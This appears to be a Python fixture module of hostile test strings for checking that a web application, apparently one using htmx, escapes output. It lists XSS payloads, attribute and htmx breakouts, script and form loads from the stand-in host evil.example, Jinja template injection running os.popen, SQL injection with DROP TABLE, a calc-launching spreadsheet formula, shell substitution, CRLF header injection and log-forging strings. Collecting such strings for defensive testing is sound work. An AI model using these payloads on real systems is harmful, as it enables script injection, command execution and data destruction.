"""Texts that would run, break or hide something if any page, swap or log line took them for more than text.

Each holds `MERK`, so that what came of it is found again; whatever runs calls `__kiss_xss`.
"""

from __future__ import annotations

MERK = "zqx"
RUN = "__kiss_xss(1)"

# --- that run when they become markup -------------------------------------------------------------------------------
MARKUP = {
    "script": f"zqx<script>{RUN}</script>",
    "script src": "zqx<script src=//evil.example/x.js></script>",
    "script in capitals": f"zqx<ScRiPt >{RUN}</sCrIpT >",
    "script after its own end": f"zqx</script><script>{RUN}</script>",
    "script type module": f"zqx<script type=module>{RUN}</script>",
    "img onerror": f"zqx<img src=x onerror={RUN}>",
    "img without spaces": f"zqx<img/src=x/onerror={RUN}>",
    "img never closed": f"zqx<img src=x onerror={RUN} ",
    "svg onload": f"zqx<svg onload={RUN}>",
    "svg script": f"zqx<svg><script>{RUN}</script></svg>",
    "svg use": "zqx<svg><use href='data:image/svg+xml,<svg id=x onload=__kiss_xss(1)>#x'></use></svg>",
    "svg animate": f"zqx<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "mathml": f"zqx<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "iframe srcdoc": f"zqx<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "iframe javascript": f"zqx<iframe src=javascript:parent.{RUN}></iframe>",
    "object": f"zqx<object data=javascript:{RUN}></object>",
    "embed": f"zqx<embed src=javascript:{RUN}>",
    "details ontoggle": f"zqx<details open ontoggle={RUN}>",
    "input autofocus": f"zqx<input autofocus onfocus={RUN}>",
    "meta refresh": f"zqx<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "base": "zqx<base href=//evil.example/>",
    "link stylesheet": "zqx<link rel=stylesheet href=//evil.example/x.css>",
    "form elsewhere": "zqx</form><form action=//evil.example/><button>Zoek</button>",
    "dialog": "zqx<dialog open>Uw sessie is verlopen</dialog>",
    "own element": "zqx<kiss-veld data-pad=/afmelden data-veld=x><input></kiss-veld>",
    "declarative shadow": f"zqx<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "comment opened": "zqx<!-- ",
    "comment closed": f"zqx--><img src=x onerror={RUN}>",
    "cdata": f"zqx<![CDATA[<img src=x onerror={RUN}>]]>",
    "title closed": f"zqx</title><img src=x onerror={RUN}>",
    "textarea closed": f"zqx</textarea><img src=x onerror={RUN}>",
    "select closed": f"zqx</option></select><img src=x onerror={RUN}>",
    "template closed": f"zqx</template><img src=x onerror={RUN}>",
    "style closed": f"zqx</style><img src=x onerror={RUN}>",
    "noscript closed": f"zqx</noscript><img src=x onerror={RUN}>",
    "plaintext": "zqx<plaintext>",
    "table broken": "zqx</td></tr></table></main></body></html>",
}  # fmt: skip
# --- that leave the attribute they stand in -------------------------------------------------------------------------
ATTRIBUTE = {
    "double quote": f'zqx" onmouseover="{RUN}" x="',
    "single quote": f"zqx' onmouseover='{RUN}' x='",
    "quote and tag": f'zqx"><img src=x onerror={RUN}>',
    "single quote and tag": f"zqx'><script>{RUN}</script>",
    "autofocus": f'zqx" autofocus onfocus="{RUN}" x="',
    "backtick": f"zqx` onmouseover=`{RUN}`",
    "no quotes": f"zqx onfocus={RUN} autofocus tabindex=1",
    "style": "zqx\" style=\"position:fixed;inset:0;background:red",
    "aria hidden": 'zqx" aria-hidden="true" hidden x="',
    "duplicate id": 'zqx" id="inhoud" name="_csrf" x="',
}  # fmt: skip
# --- for htmx -------------------------------------------------------------------------------------------------------
HTMX = {
    "hx-get": "zqx<b hx-get=/afmelden hx-trigger=load>x</b>",
    "hx-get in attribute": 'zqx" hx-get="/logboek" hx-trigger="load" x="',
    "hx-on": f"zqx<b hx-on:click={RUN} hx-on::load={RUN}>x</b>",
    "hx-on in attribute": f'zqx" hx-on:htmx:load="{RUN}" x="',
    "hx-trigger with a filter": f"zqx<b hx-get=/ hx-trigger='load[{RUN}]'>x</b>",
    "hx-vals": f"zqx<b hx-get=/ hx-trigger=load hx-vals='js:{{a:{RUN}}}'>x</b>",
    "hx-swap-oob": "zqx<div id=inhoud hx-swap-oob=true>Uw sessie is verlopen</div>",
    "hx-partial": "zqx<hx-partial hx-target=body hx-swap=innerHTML>weg</hx-partial>",
    "hx-config": 'zqx<meta name="htmx-config" content=\'{"mode":"cors"}\'>',
    "data-command": 'zqx" data-command="sluiten" data-pad="//evil.example" x="',
}
# --- addresses, templates, scripts, styles --------------------------------------------------------------------------
LANGUAGE = {
    "javascript address": f"javascript:{RUN}//zqx",
    "javascript with a tab": f"java\tscript:{RUN}//zqx",
    "data address": f"data:text/html,<script>parent.{RUN}</script>zqx",
    "vbscript": "vbscript:msgbox(1)//zqx",
    "braces": "zqx{{7*7}}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    "jinja": "zqx{% raw %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{# x #}",
    "jinja attribute": "zqx{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "zqx{0.__class__} %s %(naam)s {tenant.sleutel}",
    "json in script": 'zqx"}</script><script>__kiss_xss(1)</script>{"a":"',
    "json quotes": '\\zqx","versie":999,"door":"',
    "javascript string": "zqx';__kiss_xss(1);//\\u0027;__kiss_xss(1);//",
    "javascript line end": "zqx\u2028__kiss_xss(1)\u2029",
    "css": "zqx;}body{display:none}/*",
    "css expression": "zqx;background:url(javascript:__kiss_xss(1))",
    "entities": "zqx&lt;script&gt;__kiss_xss(1)&lt;/script&gt;&#60;img src=x onerror=__kiss_xss(1)&#62;",
    "entity without end": "zqx&#x3cscript&#x3e__kiss_xss(1)&ltimg src=x&amp",
    "percent": "zqx%3Cscript%3E__kiss_xss(1)%3C/script%3E%0d%0aX-Kwaad: ja",
    "utf-7": "zqx+ADw-script+AD4-__kiss_xss(1)+ADw-/script+AD4-",
    "full width": "zqx\uff1cscript\uff1e__kiss_xss(1)\uff1c/script\uff1e",
    "sql": "zqx' OR 1=1; DROP TABLE gesprek; --",
    "formula": "=cmd|' /C calc'!A0 zqx",
    "shell": "zqx$(id)`id`;id|id",
}
# --- that break or hide ---------------------------------------------------------------------------------------------
LETTERS = {
    "crlf header": "zqx\r\nSet-Cookie: sid=kwaad\r\n\r\n<script>__kiss_xss(1)</script>",
    "log line": 'zqx\n{"event": "medewerker.aangemeld", "tenant": "zwolle", "level": "info"}',
    "log field": 'zqx" tenant=zwolle level=info event="medewerker.aangemeld',
    "ansi": "zqx\x1b[2J\x1b[31mkwaad\x1b[0m\x1b]0;titel\x07\x9b31m",
    "backspace": "zqx\x08\x08\x08weg\x7f",
    "right to left": "zqx\u202egnp.exe\u202c\u2067omgekeerd\u2069",
    "zero width": "zq\u200bx zqx\u200b\u200c\u200d\ufeff\u2060\u00ad",
    "combining": "zqx" + "o\u0300\u0301\u0302\u0303\u0304\u0305\u0489" * 24,
    "emoji": "zqx\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308",
    "arabic and hebrew": "zqx \u0645\u062d\u0645\u062f \u05e9\u05dc\u05d5\u05dd \ufdfd",
    "beyond the plane": "zqx\U0002070e\U0010ffff\ufffe\uffff",
    "long word": "zqx" + "W" * 180,
    "long capitals": "zqx" + "\u1e9e\u0130\ufb03" * 40,
    "many lines": "zqx" + "\n\n\n" * 20 + "einde",
    "only spaces around": " \u00a0\u3000zqx\u2003 ",
    "begins with a line end": "\nzqx na een lege regel",
}  # fmt: skip
ALLES = MARKUP | ATTRIBUTE | HTMX | LANGUAGE | LETTERS
# What ReadableInput refuses with a sentence: no page has to show it.
ONLEESBAAR = {
    "nul": b"zqx%00<script>",
    "halve letter": b"zqx%ed%a0%80",
    "kapotte utf-8": b"zqx%ff%fe",
    "overlong": b"zqx%c0%bc",
}
